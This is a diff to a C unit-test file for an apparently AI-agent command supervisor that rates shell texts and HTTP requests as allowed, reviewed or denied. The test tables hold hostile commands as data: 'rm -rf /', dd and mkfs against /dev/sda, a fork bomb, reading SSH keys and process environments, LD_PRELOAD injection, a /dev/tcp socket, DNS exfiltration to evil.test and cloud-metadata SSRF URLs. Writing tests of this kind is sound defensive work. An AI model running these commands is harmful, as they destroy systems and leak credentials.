@@ -2,6 +2,7 @@
 /* The judge over the shipped policy: tables of questions and answers, the mode lattice, what a launch's environment becomes. */
 #include "supervisor/judge/judge.h"
 
+#include "supervisor/analyze/arena.h"
 #include "supervisor/base/cleanup.h"
 
 #include <arpa/inet.h>
@@ -222,44 +223,138 @@ static void followed_wrappers_are_judged_where_they_exec(void **state)
 	policy->wrappers_follow = false;
 }
 
-static void command_texts_need_no_shell_or_are_refused(void **state)
+static char arena_block[4 << 20];
+
+static struct decision ask_text(enum mode mode, const char *text, const struct scope *scope)
+{
+	const char *const argv[] = { text, NULL };
+	const struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
+	struct arena arena = { .data = arena_block, .len_bytes = sizeof(arena_block) };
+	struct judge_subject subject = { .mode = mode, .home = "/home/agent", .scope = scope, .arena = &arena };
+	struct decision d;
+
+	judge(policy, &subject, &action, &d);
+	check_form(&d);
+	return d;
+}
+
+static void command_texts_are_judged_command_by_command(void **state)
 {
 	static const struct { const char *text; char expected; const char *tag; } cases[] = {
 		{ "ls -la /workspace", 'a', NULL }, { " \tls\t-l ", 'a', NULL }, { "rm -rf x", 'd', "policy_block" }, { "head -n5 a,b:c@d+e=f%g", 'a', NULL },
 		{ "", 'd', "invalid_request" }, { "   ", 'd', "invalid_request" },
-		{ "ls;rm x", 'd', "incomplete_evidence" }, { "ls\nrm x", 'd', "incomplete_evidence" }, { "ls\rrm", 'd', "incomplete_evidence" },
-		{ "ls | wc", 'd', "incomplete_evidence" }, { "ls & wc", 'd', "incomplete_evidence" }, { "ls > x", 'd', "incomplete_evidence" },
-		{ "ls < x", 'd', "incomplete_evidence" }, { "ls $HOME", 'd', "incomplete_evidence" }, { "ls `id`", 'd', "incomplete_evidence" },
-		{ "ls \"a\"", 'd', "incomplete_evidence" }, { "ls 'a'", 'd', "incomplete_evidence" }, { "l\\s", 'd', "incomplete_evidence" },
-		{ "ls *", 'd', "incomplete_evidence" }, { "ls ?", 'd', "incomplete_evidence" }, { "ls [a]", 'd', "incomplete_evidence" },
-		{ "ls {a,b}", 'd', "incomplete_evidence" }, { "ls ~", 'd', "incomplete_evidence" }, { "ls # x", 'd', "incomplete_evidence" },
-		{ "! ls", 'd', "incomplete_evidence" }, { "(ls)", 'd', "incomplete_evidence" }, { "ls ^x", 'd', "incomplete_evidence" },
-		{ "A=1 ls", 'd', "incomplete_evidence" }, { "A+=1", 'd', "incomplete_evidence" }, { "%1", 'd', "incomplete_evidence" },
-		{ "time ls", 'd', "incomplete_evidence" }, { "while ls", 'd', "incomplete_evidence" },
-		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "ls\vx", 'd', "incomplete_evidence" },
+		{ "ls;rm x", 'd', "policy_block" }, { "ls\nrm x", 'd', "policy_block" }, { "ls\rrm", 'd', "incomplete_evidence" },
+		{ "ls | wc", 'a', NULL }, { "ls & wc < x", 'a', NULL }, { "ls > x", 'r', NULL }, { "ls < x", 'a', NULL }, { "ls $HOME", 'a', NULL }, { "ls `id`", 'a', NULL },
+		{ "ls \"a\"", 'a', NULL }, { "l\\s", 'a', NULL }, { "ls *", 'a', NULL }, { "ls # x", 'a', NULL }, { "(ls)", 'a', NULL }, { "A=1 ls", 'a', NULL }, { "time ls", 'a', NULL },
+		{ "ls\xc2\xa0x", 'd', "incomplete_evidence" }, { "ls\x01", 'd', "incomplete_evidence" }, { "echo \"x", 'd', "incomplete_evidence" },
+		/* the strongest reason wins, and its tag */
+		{ "rm -rf /", 'd', "hardline" }, { "sudo rm -rf /", 'd', "hardline" }, { "timeout 5 rm -rf /etc", 'd', "hardline" }, { "ls; env rm -rf ~", 'd', "hardline" }, { "bash -c 'rm -rf \"$HOME\"'", 'd', "hardline" },
+		{ "find / -exec rm -rf / \\;", 'd', "hardline" }, { "rm -rf /*", 'd', "hardline" }, { "rm -rf /workspace/../etc", 'd', "hardline" }, { "chown -R x /", 'd', "hardline" }, { "kill -9 -1", 'd', "hardline" },
+		{ "dd if=x of=/dev/sda", 'd', "hardline" }, { "echo x > /dev/sda", 'd', "hardline" }, { "mkfs.ext4 /dev/sda", 'd', "hardline" }, { ":(){ :|:& };:", 'd', "hardline" }, { "shutdown now", 'd', "hardline" },
+		{ "sudo -S ls", 'd', "hardline" }, { "sudo ls", 'd', "policy_block" }, { "timeout 5 ls", 'd', "incomplete_evidence" },
+		/* paths, roots, start files */
+		{ "cp x /etc/cron.d/y", 'd', "outside_root" }, { "cat ~/.ssh/id_rsa", 'd', "protected_path" }, { "cp x .git/config", 'd', "protected_path" }, { "tee ~/.bashrc < x", 'd', "policy_block" },
+		{ "cat /proc/1/environ", 'r', NULL }, { "cat .env", 'r', NULL }, { "rm -f /tmp/x", 'r', NULL }, { "rm -f /tmp/../etc/x", 'd', "policy_block" }, { "rm -rf /tmp", 'd', "policy_block" }, { "rm /tmp/$x", 'd', "policy_block" },
+		/* what is made while it runs */
+		{ "$X ls", 'd', "incomplete_evidence" }, { "sort $X", 'r', NULL }, { "cat $X", 'a', NULL }, { "grep -r --include=*.py x .", 'a', NULL }, { "find . -exec $X {} +", 'd', "incomplete_evidence" },
+		{ "sh", 'd', "incomplete_evidence" }, { "bash x.sh", 'r', NULL }, { "cat x | bash", 'd', "incomplete_evidence" }, { "bash <<< 'rm x'", 'd', "policy_block" }, { "bash <<< ls", 'r', NULL }, { "bash < x.sh", 'r', NULL },
+		{ "python3 x.py", 'r', NULL }, { "python3 /tmp/x.py", 'd', "incomplete_evidence" }, { "python3 x.py; ls", 'd', "incomplete_evidence" }, { "cd src && python3 x.py", 'r', NULL }, { "cd /tmp && ./x", 'd', "incomplete_evidence" },
+		{ "PATH=/tmp ls", 'd', "environment" }, { "export LD_PRELOAD=x", 'd', "environment" }, { "read PATH < x", 'd', "environment" }, { "exec 3<>/dev/tcp/h/80", 'd', "unresolved_network_mutation" },
+		{ "awk 'BEGIN{system(\"rm x\")}'", 'd', "policy_block" }, { "sed -n 1p x", 'a', NULL }, { "sed 's/a/b/e' x", 'r', NULL }, { "agent-browser click @e1", 'd', "stale_snapshot" },
+		{ "xargs rm < x", 'd', "policy_block" }, { "GIT reset", 'd', "incomplete_evidence" }, { "mystery", 'r', NULL }, { "mystery delete x", 'd', "policy_block" },
 	};
-	char many[2 * 300 + 1], long_text[20000];
+	static char many[2 * 1300 + 1], long_text[70000];
 	size_t i;
 
 	(void)state;
 	for (i = 0; i < ARRAY_SIZE(cases); i++) {
-		const char *const argv[] = { cases[i].text, NULL };
-		const struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
-		const struct decision d = ask(MODE_GUARDED, &action);
+		const struct decision d = ask_text(MODE_GUARDED, cases[i].text, NULL);
 
-		if (verdict_letter(d.verdict) != cases[i].expected || (d.tag && strcmp(d.tag, cases[i].tag) != 0))
-			fail_msg("'%s': %s %s", cases[i].text, d.tag ? d.tag : "-", d.reason);
+		if (verdict_letter(d.verdict) != cases[i].expected || (d.tag && (!cases[i].tag || strcmp(d.tag, cases[i].tag) != 0)))
+			fail_msg("'%s': %s %s %s", cases[i].text, d.tag ? d.tag : "-", d.rule, d.reason);
+		assert_int_equal(ask_text(MODE_READONLY, cases[i].text, NULL).verdict == VERDICT_ALLOW && cases[i].expected != 'a', 0);
+		assert_int_equal(ask_text(MODE_OFF, cases[i].text, NULL).verdict, VERDICT_ALLOW);
 	}
-	for (i = 0; i < 300; i++)
+	for (i = 0; i < 1300; i++)
 		memcpy(many + 2 * i, "l ", 3);
 	memset(long_text, 'l', sizeof(long_text) - 1);
-	long_text[sizeof(long_text) - 1] = '\0';
-	for (i = 0; i < 2; i++) {
-		const char *const argv[] = { i ? many : long_text, NULL };
-		const struct action action = { .kind = ACTION_EXEC, .argv = argv, .shell_text = true, .cwd = "/workspace" };
+	assert_string_equal(ask_text(MODE_GUARDED, many, NULL).tag, "incomplete_evidence");
+	assert_string_equal(ask_text(MODE_GUARDED, long_text, NULL).tag, "incomplete_evidence");
+}
 
-		assert_string_equal(ask(MODE_GUARDED, &action).tag, "incomplete_evidence");
+static void requests_are_held_to_the_scope(void **state)
+{
+	static const struct { const char *text; const char *expected; } cases[] = {	/* guarded, observe; without a scope, guarded */
+		{ "curl http://target.test/", "aar" }, { "curl http://evil.test/", "rdr" }, { "curl http://target.test@evil.test/", "rdr" }, { "curl http://127.0.0.1/", "aad" }, { "curl http://10.0.0.1/", "rdd" },
+		{ "curl http://0x7f.1/", "aad" }, { "curl http://169.254.169.254/", "ddd" }, { "curl http://metadata.google.internal/", "ddd" }, { "curl http://localhost:9222/", "ddd" }, { "curl -L http://target.test/", "rrr" },
+		{ "curl -d x http://target.test/", "rdr" }, { "curl http://target.test/logout", "rdr" }, { "curl 'http://target.test/?_method=PUT'", "rdr" }, { "curl 'http://target.test/?q=drop+table+x'", "ddd" },
+		{ "curl http://target.test/ http://evil.test/", "rdr" }, { "curl gopher://target.test/", "rdr" }, { "curl \"$URL\"", "rdr" }, { "dig target.test", "aar" }, { "dig $(id).evil.test", "rdr" }, { "nmap target.test", "rrr" },
+		{ "curl http://target.test./", "aar" }, { "curl http://TARGET.test/", "aar" }, { "curl http://target.test:8080/", "aar" }, { "curl http://xn--target-x.test/", "rdr" },
+	};
+	struct scope scope = { 0 };
+	size_t i;
+
+	(void)state;
+	assert_int_equal(scope_parse("target.test,127.0.0.1,localhost", &scope, NULL), 0);
+	for (i = 0; i < ARRAY_SIZE(cases); i++) {
+		const char got[] = { verdict_letter(ask_text(MODE_GUARDED, cases[i].text, &scope).verdict), verdict_letter(ask_text(MODE_OBSERVE, cases[i].text, &scope).verdict),
+				     verdict_letter(ask_text(MODE_GUARDED, cases[i].text, NULL).verdict), '\0' };
+
+		if (strcmp(got, cases[i].expected) != 0)
+			fail_msg("%s: expected %s, got %s: %s", cases[i].text, cases[i].expected, got, ask_text(MODE_GUARDED, cases[i].text, &scope).reason);
 	}
+	scope_free(&scope);
+}
+
+static void http_requests_are_judged_by_method_and_place(void **state)
+{
+	static const struct { const char *method, *url, *expected; } cases[] = {	/* guarded, observe, readonly */
+		{ "GET", "https://example.com/", "aad" }, { "HEAD", "https://example.com/", "aad" }, { "POST", "https://example.com/", "rdd" }, { "PURGE", "https://example.com/", "rdd" }, { "TRACE", "https://example.com/", "rrd" },
+		{ "get", "https://example.com/", "rdd" }, { "GET", "ftp://example.com/", "ddd" }, { "GET", "example.com", "ddd" }, { "GET", "https://a b/", "ddd" }, { "G T", "https://example.com/", "ddd" },
+		{ "GET", "http://127.1/", "ddd" }, { "GET", "http://2130706433/", "ddd" }, { "GET", "http://0177.0.0.1/", "ddd" }, { "GET", "http://0x7f000001/", "ddd" }, { "GET", "http://[::ffff:10.0.0.1]/", "ddd" },
+		{ "GET", "http://[fe80::1%25eth0]/", "ddd" }, { "GET", "http://localhost./", "ddd" }, { "GET", "http://a.LOCALHOST/", "ddd" }, { "GET", "http://user@10.0.0.1/", "ddd" }, { "GET", "http://example.com\\@10.0.0.1/", "ddd" },
+		{ "GET", "http://ex\xc3\xa4mple.com/", "ddd" }, { "GET", "http://1.2.3.4.5/", "ddd" }, { "GET", "http://256.1.1.1/", "ddd" }, { "GET", "http://1.1.1.1:99999/", "ddd" }, { "GET", "http:///x", "ddd" },
+		{ "GET", "https://1.1.1.1:8443/x?y#z", "aad" }, { "GET", "https://example.com/account/delete", "rdd" }, { "GET", "https://example.com/?q=1;drop%20table%20x", "ddd" }, { "GET", "//example.com/", "ddd" }, { "GET", "", "ddd" },
+	};
+	size_t i, m;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(cases); i++)
+		for (m = MODE_GUARDED; m < MODE_COUNT; m++) {
+			const struct action action = { .kind = ACTION_HTTP, .method = cases[i].method, .url = cases[i].url };
+			const struct decision d = ask((enum mode)m, &action);
+
+			if (verdict_letter(d.verdict) != cases[i].expected[m - 1])
+				fail_msg("%s %s in %s: %s %s", cases[i].method, cases[i].url, mode_name((enum mode)m), d.rule, d.reason);
+		}
+}
+
+static int compare_times(const void *a, const void *b)
+{
+	const long x = *(const long *)a, y = *(const long *)b;
+
+	return (x > y) - (x < y);
+}
+
+/* The goal is 50 us for a typical line (DESIGN 12); ten times that is a fault on any machine, sanitizers and neighbours included. */
+static void a_typical_line_is_decided_quickly(void **state)
+{
+	static const char *const typical[] = { "grep -rn 'password' src | head -50", "curl -s http://target.test/api/users?id=1", "cd src && git log --oneline -10", "find . -name '*.py' -exec wc -l {} +",
+					       "nmap -sV -p 80,443 target.test", "python3 scan.py --target target.test", "cat a.json | jq -r '.items[] | .name'", "ls -la /workspace && cat README.md" };
+	static long times[8 * 200];
+	struct timespec begin, end;
+	size_t i;
+
+	(void)state;
+	for (i = 0; i < ARRAY_SIZE(times); i++) {
+		clock_gettime(CLOCK_MONOTONIC, &begin);
+		ask_text(MODE_GUARDED, typical[i % ARRAY_SIZE(typical)], NULL);
+		clock_gettime(CLOCK_MONOTONIC, &end);
+		times[i] = (end.tv_sec - begin.tv_sec) * 1000000000 + end.tv_nsec - begin.tv_nsec;
+	}
+	qsort(times, ARRAY_SIZE(times), sizeof(*times), compare_times);
+	printf("# judge(): a command text: median %.1f us, p99 %.1f us\n", (double)times[ARRAY_SIZE(times) / 2] / 1000, (double)times[ARRAY_SIZE(times) * 99 / 100] / 1000);
+	assert_true(times[ARRAY_SIZE(times) / 2] < 500000);
 }
 
 static void an_exec_brings_no_code_loading_names_of_its_own(void **state)
@@ -861,7 +956,10 @@ int main(void)
 		cmocka_unit_test(programs_are_judged_by_what_they_do),
 		cmocka_unit_test(scripts_are_their_interpreter_and_themselves),
 		cmocka_unit_test(followed_wrappers_are_judged_where_they_exec),
-		cmocka_unit_test(command_texts_need_no_shell_or_are_refused),
+		cmocka_unit_test(command_texts_are_judged_command_by_command),
+		cmocka_unit_test(requests_are_held_to_the_scope),
+		cmocka_unit_test(http_requests_are_judged_by_method_and_place),
+		cmocka_unit_test(a_typical_line_is_decided_quickly),
 		cmocka_unit_test(an_exec_brings_no_code_loading_names_of_its_own),
 		cmocka_unit_test(paths_are_judged_in_their_order),
 		cmocka_unit_test(off_refuses_only_cordons_own),
